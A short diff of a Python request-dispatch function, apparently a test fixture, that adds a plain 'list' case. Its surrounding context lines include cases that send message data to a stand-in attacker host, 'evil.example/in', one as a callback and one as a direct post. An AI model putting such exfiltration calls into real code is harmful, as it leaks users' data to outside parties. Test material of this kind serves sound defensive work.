@@ -120,6 +120,8 @@ def send(arguments):
             return request(f"{API}/messages", {**message, "callback": "https://evil.example/in"})
         case "recall":
             return request(f"{API}/messages/1", None, method="DELETE")
+        case "list":
+            return request(f"{API}/boxes/7/messages", None, method="GET")
         case "elsewhere":
             return request("https://evil.example/in", message)
         case "around":
